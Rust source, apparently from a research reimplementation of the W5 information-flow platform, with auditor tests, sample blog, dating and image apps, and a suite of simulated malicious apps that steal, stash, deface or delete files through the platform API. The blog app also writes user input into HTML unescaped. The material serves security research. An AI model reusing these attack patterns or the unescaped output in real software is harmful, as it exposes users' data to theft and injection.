    // the insert must act with the owner's capabilities.
    let owner = Subject::new(LabelPair::public(), p.registry.effective(&alice.owner_caps));
    let _ = p.db.execute(
        &owner,
        QueryMode::Filtered,
        QueryCost::unlimited(),
        &LabelPair::public(),
        "CREATE TABLE t5 (x TEXT)",
    );
    p.db.execute(
        &owner,
        QueryMode::Filtered,
        QueryCost::unlimited(),
        &LabelPair::new(
            Label::empty().with(alice.export_tag),
            Label::empty().with(alice.write_tag),
        ),
        "INSERT INTO t5 (x) VALUES ('r')",
    )
    .expect("owner-endorsed insert");
    assert!(p.audit().with_code("W5A005").is_empty());
}

// ---------------------------------------------------------------- W5A006

#[test]
fn w5a006_fires_on_unmetered_sibling() {
    let p = Platform::new_default("l6-pos");
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.declassifiers.register(Arc::new(RateLimited::new(Arc::new(FriendsOnly), 3)));
    p.policies.grant_declassifier(alice.id, "rate-limited", GrantScope::AllApps);
    // Sibling grant releases friends too — unmetered.
    p.policies.grant_declassifier(alice.id, "friends-only", GrantScope::App("devB/blog".into()));
    let r = p.audit();
    let hits = r.with_code("W5A006");
    assert_eq!(hits.len(), 1, "findings: {:#?}", r.findings);
    assert_eq!(hits[0].subject, "user:alice");
    assert!(hits[0].message.contains("friends-only"));
}

#[test]
fn w5a006_silent_when_sibling_audiences_disjoint() {
    let p = Platform::new_default("l6-neg");
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.declassifiers.register(Arc::new(RateLimited::new(Arc::new(FriendsOnly), 3)));
    p.policies.grant_declassifier(alice.id, "rate-limited", GrantScope::AllApps);
    // owner-only overlaps only on the owner class, which doesn't count.
    p.policies.grant_declassifier(alice.id, "owner-only", GrantScope::AllApps);
    assert!(p.audit().with_code("W5A006").is_empty());
}

#[test]
fn w5a006_silent_when_scopes_disjoint() {
    let p = Platform::new_default("l6-neg2");
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.declassifiers.register(Arc::new(RateLimited::new(Arc::new(FriendsOnly), 3)));
    p.policies.grant_declassifier(alice.id, "rate-limited", GrantScope::App("devA/photos".into()));
    p.policies.grant_declassifier(alice.id, "friends-only", GrantScope::App("devB/blog".into()));
    assert!(p.audit().with_code("W5A006").is_empty());
}

// ---------------------------------------------------------------- W5A007

#[test]
fn w5a007_fires_on_dangling_grant() {
    let p = Platform::new_default("l7-pos");
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.policies.grant_declassifier(alice.id, "retired-policy", GrantScope::AllApps);
    let r = p.audit();
    let hits = r.with_code("W5A007");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].subject, "user:alice");
    assert!(hits[0].message.contains("retired-policy"));
}

#[test]
fn w5a007_silent_on_registered_grant() {
    let p = Platform::new_default("l7-neg");
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.policies.grant_declassifier(alice.id, "friends-only", GrantScope::AllApps);
    assert!(p.audit().with_code("W5A007").is_empty());
}

// ---------------------------------------------------------------- W5A008

#[test]
fn w5a008_fires_on_mixed_table() {
    let p = Platform::new_default("l8-pos");
    let alice = p.accounts.register("alice", "pw").unwrap();
    let secret = LabelPair::new(Label::empty().with(alice.export_tag), Label::empty());
    seed_rows(&p, "t8", &secret, 2);
    seed_rows(&p, "t8", &LabelPair::public(), 3);
    let r = p.audit();
    let hits = r.with_code("W5A008");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].subject, "table:t8");
    assert!(hits[0].message.contains("3 public row(s)"));
    assert!(hits[0].message.contains("2 secret row(s)"));
    assert_eq!(hits[0].severity, Severity::Info);
}

#[test]
fn w5a008_silent_on_uniform_tables() {
    let p = Platform::new_default("l8-neg");
    let alice = p.accounts.register("alice", "pw").unwrap();
    let secret = LabelPair::new(Label::empty().with(alice.export_tag), Label::empty());
    seed_rows(&p, "t8a", &secret, 2); // all secret
    seed_rows(&p, "t8b", &LabelPair::public(), 3); // all public
    assert!(p.audit().with_code("W5A008").is_empty());
}

// ----------------------------------------------------- ordering + dedup

#[test]
fn findings_sort_most_severe_first() {
    let p = Platform::new("mix", PlatformConfig { enforce_ifc: false, ..Default::default() });
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.registry.create_tag(TagKind::ExportProtect, "orphan");
    p.policies.grant_declassifier(alice.id, "gone", GrantScope::AllApps);
    let r = p.audit();
    let sev: Vec<Severity> = r.findings.iter().map(|f| f.severity).collect();
    let mut sorted = sev.clone();
    sorted.sort_by(|a, b| b.cmp(a));
    assert_eq!(sev, sorted, "findings must be most-severe-first: {:#?}", r.findings);
    assert!(codes(&r).contains(&"W5A001"));
    assert!(codes(&r).contains(&"W5A004"));
    assert!(codes(&r).contains(&"W5A007"));
}
