//! The configuration-level attacks from `w5_apps::malice` must be caught
//! by the static auditor — with the *right* codes, and without collateral
//! findings against the honest parts of the deployment.

use w5_analyze::{AuditExt, ExitClass, Severity};
use w5_platform::{GrantScope, Platform};

/// Attack 8: the `friendly-share` widening chain is flagged as
/// W5A002 declass-widening at error severity.
#[test]
fn widening_chain_is_flagged_w5a002() {
    let platform = Platform::new_default("malice-widening");
    w5_apps::install_all(&platform);
    let alice = platform.accounts.register("alice", "pw").unwrap();

    // Before the attack: clean.
    assert!(platform.audit().is_clean());

    let name = w5_apps::malice::install_widening_attack(&platform);
    // The victim grants the innocent-looking declassifier, believing it
    // narrows to friends-only.
    platform.policies.grant_declassifier(alice.id, name, GrantScope::AllApps);

    let report = platform.audit();
    let hits = report.with_code("W5A002");
    assert_eq!(hits.len(), 1, "findings: {:#?}", report.findings);
    assert_eq!(hits[0].severity, Severity::Error);
    assert_eq!(hits[0].subject, "declassifier:friendly-share");
    assert!(
        hits[0].message.contains("friendly-share -> friends-only"),
        "message should show the chain: {}",
        hits[0].message
    );
    assert!(report.with_code("W5A003").is_empty());
    // The flow graph agrees: alice's export tag now reaches strangers and
    // anonymous viewers through every app.
    let analysis = w5_analyze::Analysis::analyze(w5_analyze::ConfigSnapshot::capture(&platform));
    assert!(analysis.allowed(
        alice.export_tag.raw(),
        "mal/exfiltrator",
        &[ExitClass::Strangers, ExitClass::Anonymous],
    ));
}

/// Attack 9: the WriteProtect-in-secrecy escrow rows are flagged as
/// W5A003 capability-escalation at error severity.
#[test]
fn escalation_chain_is_flagged_w5a003() {
    let platform = Platform::new_default("malice-escalation");
    w5_apps::install_all(&platform);
    platform.accounts.register("alice", "pw").unwrap();

    assert!(platform.audit().is_clean());

    let tag = w5_apps::malice::install_escalation_attack(&platform);

    let report = platform.audit();
    let hits = report.with_code("W5A003");
    assert_eq!(hits.len(), 1, "findings: {:#?}", report.findings);
    assert_eq!(hits[0].severity, Severity::Error);
    assert_eq!(hits[0].subject, "tag:mal:escrow");
    assert!(
        hits[0].message.contains("sql:mal_escrow"),
        "message should name the store: {}",
        hits[0].message
    );
    assert!(report.with_code("W5A002").is_empty());
    // Reachability shows the vacuous tag exiting everywhere, unguarded.
    let analysis = w5_analyze::Analysis::analyze(w5_analyze::ConfigSnapshot::capture(&platform));
    let exits = analysis.exits(tag.raw());
    assert!(exits.iter().any(|e| e.class == ExitClass::Anonymous && e.unguarded));
}

/// Both attacks at once: two distinct error codes, no cross-talk, and the
/// registration-time hook records them in the flow ledger.
#[test]
fn both_attacks_distinct_codes_and_ledger_events() {
    use std::sync::Arc;
    use w5_obs::{EventKind, Ledger, ObsLabel};

    let ledger = Arc::new(Ledger::new());
    let platform = Platform::new_default("malice-both");
    w5_apps::install_all(&platform);
    let alice = platform.accounts.register("alice", "pw").unwrap();

    let name = w5_apps::malice::install_widening_attack(&platform);
    platform.policies.grant_declassifier(alice.id, name, GrantScope::AllApps);
    w5_apps::malice::install_escalation_attack(&platform);

    let report = {
        let _scope = w5_obs::scoped(Arc::clone(&ledger));
        platform.audit_recorded()
    };
    assert_eq!(report.with_code("W5A002").len(), 1);
    assert_eq!(report.with_code("W5A003").len(), 1);
    assert_eq!(report.worst(), Some(Severity::Error));
    assert!(!report.passes(Severity::Error));

    let view = ledger.view(&ObsLabel::empty());
    let codes: Vec<String> = view
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::AuditFinding { code, .. } => Some(code.clone()),
            _ => None,
        })
        .collect();
    assert!(codes.contains(&"W5A002".to_string()));
    assert!(codes.contains(&"W5A003".to_string()));
}
