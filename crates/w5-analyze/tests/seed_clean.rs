//! Regression: the seed world — the full example-app catalog (photos,
//! blog, social, recommender, dating, the image modules, plus the malice
//! suite *installed but not configured*) with a live population — must
//! audit completely clean. This pins the analyzer's false-positive rate on
//! the reference deployment at zero: any new lint that fires here is
//! either a real regression in the seed configuration or an over-eager
//! check.

use bytes::Bytes;
use w5_analyze::{AuditExt, ConfigSnapshot, ExitClass, Severity};
use w5_platform::{GrantScope, Platform};

#[test]
fn seed_world_audits_clean() {
    let platform = Platform::new_default("seed-clean");
    w5_apps::install_all(&platform);

    // Populate: accounts, enrollment, delegations, relationship edges,
    // grants of every builtin declassifier kind, and real labeled data
    // written through the apps.
    let users: Vec<_> = ["alice", "bob", "carol"]
        .iter()
        .map(|n| platform.accounts.register(n, "pw").expect("register"))
        .collect();
    for u in &users {
        for app in ["devA/photos", "devB/blog", "devC/social"] {
            platform.policies.enroll(u.id, app);
            platform.policies.delegate_write(u.id, app);
        }
    }
    platform.add_friend("alice", "bob");
    platform.add_group_member("carol", "roommates", "alice");
    platform.policies.grant_declassifier(
        users[0].id,
        "friends-only",
        GrantScope::App("devB/blog".into()),
    );
    platform.policies.grant_declassifier(users[1].id, "public-read", GrantScope::AllApps);
    platform.policies.grant_declassifier(
        users[2].id,
        "group-only",
        GrantScope::App("devC/social".into()),
    );

    // Real rows in blog_posts, labeled with each owner's tags.
    for u in &users {
        let req = Platform::make_request(
            "POST",
            "post",
            &[("title", "diary"), ("body", "seed body")],
            Some(u),
            Bytes::new(),
        );
        let out = platform.invoke(Some(u), "devB/blog", req);
        assert_eq!(out.status, 200, "seed blog post must succeed: {:?}", out.body);
    }

    let report = platform.audit();
    assert!(
        report.is_clean(),
        "seed world must have zero findings, got: {:#?}",
        report.findings
    );
    assert!(report.passes(Severity::Info));

    // Reachability spot-checks on the populated world: alice's export tag
    // reaches her friends only through the blog (her grant's scope), and
    // never reaches strangers anywhere; bob's public-read grant opens
    // every app.
    let analysis = ConfigSnapshot::capture(&platform);
    let analysis = w5_analyze::Analysis::analyze(analysis);
    let e_alice = users[0].export_tag.raw();
    assert!(analysis.allowed(e_alice, "devB/blog", &[ExitClass::Friends]));
    assert!(!analysis.allowed(e_alice, "devA/photos", &[ExitClass::Friends]));
    assert!(!analysis.allowed(e_alice, "mal/exfiltrator", &[ExitClass::Strangers]));
    let e_bob = users[1].export_tag.raw();
    assert!(analysis.allowed(e_bob, "mal/exfiltrator", &[ExitClass::Anonymous]));
}
