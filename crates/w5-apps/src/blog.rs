//! Blogging over the labeled SQL store.
//!
//! Posts are rows in `blog_posts`, stamped with the author's labels: the
//! same store serves every user, yet each row's reach is governed by its
//! author's declassifier choices — "private blogs" (§1) fall out of the
//! default policy with no app code at all.

use std::sync::Arc;
use w5_platform::{
    sql_escape, ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Platform,
    PlatformApi, W5App,
};
use w5_store::Value;

/// The blogging application.
pub struct BlogApp;

impl W5App for BlogApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        match req.action.as_str() {
            // post?title=...&body=...
            "post" => {
                let owner = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let title = req.param("title").unwrap_or("untitled");
                let body = req.param("body").unwrap_or("");
                let sql = format!(
                    "INSERT INTO blog_posts (owner, title, body) VALUES ('{}', '{}', '{}')",
                    sql_escape(&owner),
                    sql_escape(title),
                    sql_escape(body)
                );
                api.query(&sql, CreateLabels::ViewerData)?;
                Ok(AppResponse::text("posted"))
            }
            // list?user=bob
            "list" => {
                let user = req
                    .param("user")
                    .map(str::to_string)
                    .or_else(|| api.viewer().map(str::to_string))
                    .ok_or(ApiError::Bad("user required".into()))?;
                let out = api.query(
                    &format!(
                        "SELECT title FROM blog_posts WHERE owner = '{}' ORDER BY title",
                        sql_escape(&user)
                    ),
                    CreateLabels::Derived,
                )?;
                let mut html = format!("<html><body><h1>{user}'s blog</h1><ul>");
                for row in &out.rows {
                    if let Value::Text(t) = &row.values[0] {
                        html.push_str(&format!("<li>{t}</li>"));
                    }
                }
                html.push_str("</ul></body></html>");
                Ok(AppResponse::html(html))
            }
            // read?user=bob&title=...
            "read" => {
                let user = req.param("user").ok_or(ApiError::Bad("user required".into()))?;
                let title = req.param("title").ok_or(ApiError::Bad("title required".into()))?;
                let out = api.query(
                    &format!(
                        "SELECT body FROM blog_posts WHERE owner = '{}' AND title = '{}'",
                        sql_escape(user),
                        sql_escape(title)
                    ),
                    CreateLabels::Derived,
                )?;
                match out.rows.first() {
                    Some(row) => {
                        let body = row.values[0].render();
                        Ok(AppResponse::html(format!(
                            "<html><body><h1>{title}</h1><p>{body}</p></body></html>"
                        )))
                    }
                    None => Err(ApiError::NotFound),
                }
            }
            _ => Err(ApiError::NotFound),
        }
    }

    fn source_lines(&self) -> usize {
        crate::source_line_count!("blog.rs")
    }
}

/// Create the table, publish the manifest, install the implementation.
pub fn install(platform: &Arc<Platform>) {
    let trusted = w5_store::Subject::anonymous();
    // Idempotent setup: ignore "already exists".
    let _ = platform.db.execute(
        &trusted,
        w5_store::QueryMode::Filtered,
        w5_store::QueryCost::unlimited(),
        &w5_difc::LabelPair::public(),
        "CREATE TABLE blog_posts (owner TEXT, title TEXT, body TEXT)",
    );
    // Reads are always by owner; the index makes them sorted-run probes.
    let _ = platform.db.create_index("blog_posts", "owner");
    platform
        .apps
        .publish(AppManifest {
            name: "blog".into(),
            developer: "devB".into(),
            version: 1,
            description: "blogging on the shared labeled store".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: Some(include_str!("blog.rs").to_string()),
        })
        .expect("publish blog");
    platform.install_app("devB/blog", Arc::new(BlogApp));
}
