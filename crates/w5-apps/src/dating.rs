//! Online dating with a user-uploaded compatibility metric (§2 Examples:
//! "For an online-dating application, Bob can upload a custom
//! compatibility metric.")
//!
//! Each user stores a dating profile (interest vector) and, optionally,
//! their own metric — per-dimension weights. The `match` action evaluates
//! the *viewer's* metric against candidate profiles, entirely inside the
//! perimeter: candidates' raw profiles are read (tainting the instance),
//! but only scores are rendered, and the output still carries every
//! candidate's tag — the candidates' declassifier policies decide whether
//! the viewer may see even that.

use serde::{Deserialize, Serialize};
use std::sync::Arc;
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Platform, PlatformApi, W5App,
};

/// Interest dimensions used by profiles and metrics.
pub const DIMENSIONS: [&str; 5] = ["music", "books", "sports", "travel", "food"];

/// A dating profile: per-dimension enthusiasm 0..=10.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct DatingProfile {
    /// Scores per dimension, aligned with [`DIMENSIONS`].
    pub scores: [i64; 5],
    /// Custom metric weights per dimension (defaults to all-1).
    pub weights: [i64; 5],
}

impl DatingProfile {
    /// The viewer's custom compatibility metric: negative weighted
    /// Manhattan distance (higher = more compatible).
    pub fn compatibility(&self, other: &DatingProfile) -> i64 {
        -(0..5)
            .map(|i| self.weights[i] * (self.scores[i] - other.scores[i]).abs())
            .sum::<i64>()
    }
}

/// The dating application.
pub struct DatingApp;

impl DatingApp {
    fn path(user: &str) -> String {
        format!("/dating/{user}")
    }

    fn parse_vec(s: &str) -> Result<[i64; 5], ApiError> {
        let vals: Vec<i64> = s
            .split(',')
            .map(|p| p.trim().parse::<i64>())
            .collect::<Result<_, _>>()
            .map_err(|_| ApiError::Bad("expected 5 comma-separated integers".into()))?;
        if vals.len() != 5 {
            return Err(ApiError::Bad("expected exactly 5 values".into()));
        }
        Ok([vals[0], vals[1], vals[2], vals[3], vals[4]])
    }

    fn load(api: &mut PlatformApi<'_>, user: &str) -> Result<DatingProfile, ApiError> {
        let data = api.read_file(&Self::path(user))?;
        serde_json::from_slice(&data).map_err(|e| ApiError::Bad(format!("corrupt profile: {e}")))
    }
}

impl W5App for DatingApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        match req.action.as_str() {
            // profile?scores=1,2,3,4,5&weights=2,1,1,1,3
            "profile" => {
                let me = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let scores = Self::parse_vec(req.param("scores").unwrap_or("0,0,0,0,0"))?;
                let weights = match req.param("weights") {
                    Some(w) => Self::parse_vec(w)?,
                    None => [1; 5],
                };
                let profile = DatingProfile { scores, weights };
                let body = serde_json::to_vec(&profile).map_err(|e| ApiError::Bad(e.to_string()))?;
                match api.write_file(&Self::path(&me), body.clone().into()) {
                    Ok(()) => {}
                    Err(ApiError::NotFound) => {
                        api.create_file(&Self::path(&me), body.into(), CreateLabels::ViewerData)?
                    }
                    Err(e) => return Err(e),
                }
                Ok(AppResponse::text("dating profile saved"))
            }
            // match?candidates=alice,carol
            "match" => {
                let me = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let mine = Self::load(api, &me)?;
                let mut results: Vec<(i64, String)> = Vec::new();
                for cand in req
                    .param("candidates")
                    .unwrap_or("")
                    .split(',')
                    .filter(|s| !s.is_empty() && *s != me)
                {
                    match Self::load(api, cand) {
                        Ok(theirs) => results.push((mine.compatibility(&theirs), cand.to_string())),
                        Err(ApiError::NotFound) => {}
                        Err(e) => return Err(e),
                    }
                }
                results.sort_by(|a, b| b.0.cmp(&a.0).then_with(|| a.1.cmp(&b.1)));
                let mut html = format!("<html><body><h1>matches for {me}</h1><ol>");
                for (score, cand) in &results {
                    html.push_str(&format!("<li>{cand}: {score}</li>"));
                }
                html.push_str("</ol></body></html>");
                Ok(AppResponse::html(html))
            }
            _ => Err(ApiError::NotFound),
        }
    }

    fn source_lines(&self) -> usize {
        crate::source_line_count!("dating.rs")
    }
}

/// Publish + install.
pub fn install(platform: &Arc<Platform>) {
    platform
        .apps
        .publish(AppManifest {
            name: "dating".into(),
            developer: "devD".into(),
            version: 1,
            description: "dating with user-uploaded compatibility metrics".into(),
            module_slots: vec![],
            imports: vec![],
            forked_from: None,
            source: Some(include_str!("dating.rs").to_string()),
        })
        .expect("publish dating");
    platform.install_app("devD/dating", Arc::new(DatingApp));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compatibility_prefers_similar_profiles() {
        let me = DatingProfile { scores: [5, 5, 5, 5, 5], weights: [1; 5] };
        let twin = DatingProfile { scores: [5, 5, 5, 5, 5], weights: [1; 5] };
        let opposite = DatingProfile { scores: [0, 10, 0, 10, 0], weights: [1; 5] };
        assert!(me.compatibility(&twin) > me.compatibility(&opposite));
        assert_eq!(me.compatibility(&twin), 0);
    }

    #[test]
    fn custom_weights_change_the_ranking() {
        // Candidate A matches on music, B on food.
        let a = DatingProfile { scores: [9, 0, 0, 0, 0], weights: [1; 5] };
        let b = DatingProfile { scores: [0, 0, 0, 0, 9], weights: [1; 5] };
        // With music weighted heavily, A wins.
        let music_lover = DatingProfile { scores: [9, 0, 0, 0, 9], weights: [10, 1, 1, 1, 1] };
        assert!(music_lover.compatibility(&a) > music_lover.compatibility(&b));
        // With food weighted heavily, B wins.
        let foodie = DatingProfile { scores: [9, 0, 0, 0, 9], weights: [1, 1, 1, 1, 10] };
        assert!(foodie.compatibility(&b) > foodie.compatibility(&a));
    }

    #[test]
    fn parse_vec_validates() {
        assert!(DatingApp::parse_vec("1,2,3,4,5").is_ok());
        assert!(DatingApp::parse_vec("1,2,3").is_err());
        assert!(DatingApp::parse_vec("a,b,c,d,e").is_err());
    }
}
