//! The `W5IMG` toy raster format and the competing crop modules.
//!
//! Real image codecs are irrelevant to the architecture; what matters is
//! that photo bytes are opaque application data flowing through labeled
//! storage, and that two *competing developers* can ship interchangeable
//! `crop` modules the user picks between (paper §2). `W5IMG` is a
//! grayscale raster: the header `W5IMG <width> <height>\n` followed by
//! `width × height` pixel bytes.

use bytes::Bytes;

/// A decoded image.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Image {
    /// Width in pixels.
    pub width: usize,
    /// Height in pixels.
    pub height: usize,
    /// Row-major grayscale pixels (`width * height` bytes).
    pub pixels: Vec<u8>,
}

impl Image {
    /// A solid-fill image.
    pub fn filled(width: usize, height: usize, value: u8) -> Image {
        Image { width, height, pixels: vec![value; width * height] }
    }

    /// A gradient test card (pixel = x + y, wrapping) so crops are
    /// position-sensitive and the two modules produce different output.
    pub fn test_card(width: usize, height: usize) -> Image {
        let mut pixels = Vec::with_capacity(width * height);
        for y in 0..height {
            for x in 0..width {
                pixels.push(((x + y) % 256) as u8);
            }
        }
        Image { width, height, pixels }
    }

    /// Pixel accessor.
    pub fn get(&self, x: usize, y: usize) -> u8 {
        self.pixels[y * self.width + x]
    }

    /// Encode to `W5IMG` bytes.
    pub fn encode(&self) -> Bytes {
        let mut out = format!("W5IMG {} {}\n", self.width, self.height).into_bytes();
        out.extend_from_slice(&self.pixels);
        Bytes::from(out)
    }

    /// Decode from `W5IMG` bytes.
    pub fn decode(data: &[u8]) -> Result<Image, String> {
        let nl = data
            .iter()
            .position(|&b| b == b'\n')
            .ok_or("missing header newline")?;
        let header = std::str::from_utf8(&data[..nl]).map_err(|_| "bad header encoding")?;
        let mut parts = header.split(' ');
        if parts.next() != Some("W5IMG") {
            return Err("bad magic".to_string());
        }
        let width: usize = parts
            .next()
            .and_then(|s| s.parse().ok())
            .ok_or("bad width")?;
        let height: usize = parts
            .next()
            .and_then(|s| s.parse().ok())
            .ok_or("bad height")?;
        if width == 0 || height == 0 || width > 8192 || height > 8192 {
            return Err("unreasonable dimensions".to_string());
        }
        let body = &data[nl + 1..];
        if body.len() != width * height {
            return Err(format!("expected {} pixels, got {}", width * height, body.len()));
        }
        Ok(Image { width, height, pixels: body.to_vec() })
    }

    /// Extract a sub-rectangle. Caller guarantees bounds.
    pub fn crop_rect(&self, x0: usize, y0: usize, w: usize, h: usize) -> Image {
        assert!(x0 + w <= self.width && y0 + h <= self.height, "crop out of bounds");
        let mut pixels = Vec::with_capacity(w * h);
        for y in y0..y0 + h {
            pixels.extend_from_slice(&self.pixels[y * self.width + x0..y * self.width + x0 + w]);
        }
        Image { width: w, height: h, pixels }
    }
}

/// A pluggable crop implementation — the module developers compete on.
pub trait CropModule: Send + Sync {
    /// The developer offering this module.
    fn developer(&self) -> &'static str;
    /// Crop `img` to `w × h` (clamped to the image bounds).
    fn crop(&self, img: &Image, w: usize, h: usize) -> Image;
}

/// Developer A's cropper: anchors at the top-left corner.
pub struct TopLeftCrop;

impl CropModule for TopLeftCrop {
    fn developer(&self) -> &'static str {
        "devA"
    }
    fn crop(&self, img: &Image, w: usize, h: usize) -> Image {
        let w = w.clamp(1, img.width);
        let h = h.clamp(1, img.height);
        img.crop_rect(0, 0, w, h)
    }
}

/// Developer B's cropper: keeps the center of the frame.
pub struct CenteredCrop;

impl CropModule for CenteredCrop {
    fn developer(&self) -> &'static str {
        "devB"
    }
    fn crop(&self, img: &Image, w: usize, h: usize) -> Image {
        let w = w.clamp(1, img.width);
        let h = h.clamp(1, img.height);
        let x0 = (img.width - w) / 2;
        let y0 = (img.height - h) / 2;
        img.crop_rect(x0, y0, w, h)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encode_decode_roundtrip() {
        let img = Image::test_card(7, 5);
        let bytes = img.encode();
        assert_eq!(Image::decode(&bytes).unwrap(), img);
    }

    #[test]
    fn decode_rejects_garbage() {
        assert!(Image::decode(b"").is_err());
        assert!(Image::decode(b"JPEG\n").is_err());
        assert!(Image::decode(b"W5IMG 2 2\nxyz").is_err(), "wrong pixel count");
        assert!(Image::decode(b"W5IMG 0 5\n").is_err());
        assert!(Image::decode(b"W5IMG 99999 99999\n").is_err());
    }

    #[test]
    fn croppers_differ_observably() {
        let img = Image::test_card(10, 10);
        let a = TopLeftCrop.crop(&img, 4, 4);
        let b = CenteredCrop.crop(&img, 4, 4);
        assert_eq!(a.width, 4);
        assert_eq!(b.width, 4);
        // Top-left of the test card is 0; the center is not.
        assert_eq!(a.get(0, 0), 0);
        assert_eq!(b.get(0, 0), 6, "centered crop starts at (3,3): 3+3=6");
        assert_ne!(a, b);
    }

    #[test]
    fn crop_clamps_to_bounds() {
        let img = Image::test_card(4, 4);
        let a = TopLeftCrop.crop(&img, 100, 100);
        assert_eq!((a.width, a.height), (4, 4));
        let b = CenteredCrop.crop(&img, 0, 0);
        assert_eq!((b.width, b.height), (1, 1));
    }
}
