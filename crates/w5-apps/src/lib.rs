//! # w5-apps — the applications of the W5 paper
//!
//! Developer-written code that runs *on* the platform (paper §2), exercising
//! every property the architecture promises:
//!
//! * [`photos`] — photo sharing with a substitutable `crop` module slot:
//!   "use developer A's photo cropping module and developer B's labeling
//!   module" (§2). Includes the toy `W5IMG` raster format in [`image`].
//! * [`blog`] — blogging over the labeled SQL store.
//! * [`social`] — profiles, a friends feed, and the "chameleon" profile
//!   that hides chosen interests from chosen viewers (§2 Examples).
//! * [`recommender`] — "an application that sends him daily e-mail with the
//!   5 most relevant photos and blog entries posted by his friends" (§2),
//!   computed entirely inside the perimeter.
//! * [`dating`] — the online-dating app with a user-uploaded compatibility
//!   metric (§2).
//! * [`malice`] — the attacks of §3: steal, vandalize, delete,
//!   misrepresent, exfiltrate via confederate, leak via crash, and the SQL
//!   covert channel. All of them run — and all of them are defeated by the
//!   platform, which experiment E2 tabulates.
//!
//! [`install_all`] publishes every manifest and installs every
//! implementation on a platform instance.

#![forbid(unsafe_code)]

pub mod blog;
pub mod dating;
pub mod image;
pub mod malice;
pub mod photos;
pub mod recommender;
pub mod social;

use std::sync::Arc;
use w5_platform::Platform;

/// Publish manifests and install implementations for the full example
/// suite (honest apps and the malice suite).
pub fn install_all(platform: &Arc<Platform>) {
    photos::install(platform);
    blog::install(platform);
    social::install(platform);
    recommender::install(platform);
    dating::install(platform);
    malice::install(platform);
}

/// Count the source lines of a module file (the audit-surface metric of
/// experiment E5).
#[macro_export]
macro_rules! source_line_count {
    ($file:expr) => {
        include_str!($file).lines().count()
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn install_all_registers_everything() {
        let p = Platform::new_default("t");
        install_all(&p);
        let keys: Vec<String> = p.apps.list().iter().map(|m| m.key()).collect();
        for expected in [
            "devA/photos",
            "devB/blog",
            "devC/social",
            "devD/recommender",
            "devD/dating",
            "mal/exfiltrator",
            "mal/vandal",
            "mal/deleter",
            "mal/misrepresenter",
            "mal/crashleaker",
            "mal/covert",
        ] {
            assert!(keys.contains(&expected.to_string()), "missing {expected}: {keys:?}");
            assert!(p.app_impl(expected).is_some(), "impl missing for {expected}");
        }
    }
}
