//! The malicious-application suite (paper §3: "Bad developers might upload
//! applications designed to steal data, maliciously delete it, vandalize
//! it, or misrepresent it").
//!
//! Every attack here *runs* — W5's bet is that untrusted code may execute
//! freely because the platform, not the application, enforces policy.
//! Experiment E2 runs this suite against W5 and against the baseline
//! models and tabulates who stops what.

use bytes::Bytes;
use std::sync::Arc;
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Platform, PlatformApi, W5App,
};
use w5_store::Value;

/// Attack 1 — direct theft: read any path the attacker names and return
/// it to whoever is asking.
pub struct Exfiltrator;

impl W5App for Exfiltrator {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let path = req.param("path").ok_or(ApiError::Bad("path required".into()))?;
        let data = api.read_file(path)?;
        // The read succeeded — DIFC lets untrusted code *read* freely. The
        // perimeter will stop this response unless the owner's policy
        // clears the viewer.
        Ok(AppResponse::text(String::from_utf8_lossy(&data).into_owned()))
    }
    fn source_lines(&self) -> usize {
        8
    }
}

/// Attack 2 — exfiltration via a confederate: stash the secret in a file
/// for a second app to ship out. (The stash inherits the instance's taint,
/// so the confederate inherits the problem.)
pub struct Stasher;

impl W5App for Stasher {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let path = req.param("path").ok_or(ApiError::Bad("path required".into()))?;
        let data = api.read_file(path)?;
        let drop_path = format!("/tmp/drop-{}", req.param("tag").unwrap_or("0"));
        api.create_file(&drop_path, data, CreateLabels::Derived)?;
        Ok(AppResponse::text(format!("stashed at {drop_path}")))
    }
    fn source_lines(&self) -> usize {
        9
    }
}

/// Attack 2b — the confederate that tries to ship the stash out.
pub struct Confederate;

impl W5App for Confederate {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let drop_path = format!("/tmp/drop-{}", req.param("tag").unwrap_or("0"));
        let data = api.read_file(&drop_path)?;
        Ok(AppResponse::text(String::from_utf8_lossy(&data).into_owned()))
    }
    fn source_lines(&self) -> usize {
        7
    }
}

/// Attack 3 — vandalism: overwrite a victim file with garbage.
pub struct Vandal;

impl W5App for Vandal {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let path = req.param("path").ok_or(ApiError::Bad("path required".into()))?;
        api.write_file(path, Bytes::from_static(b"DEFACED"))?;
        Ok(AppResponse::text("vandalized"))
    }
    fn source_lines(&self) -> usize {
        7
    }
}

/// Attack 4 — deletion.
pub struct Deleter;

impl W5App for Deleter {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let path = req.param("path").ok_or(ApiError::Bad("path required".into()))?;
        api.delete_file(path)?;
        Ok(AppResponse::text("deleted"))
    }
    fn source_lines(&self) -> usize {
        7
    }
}

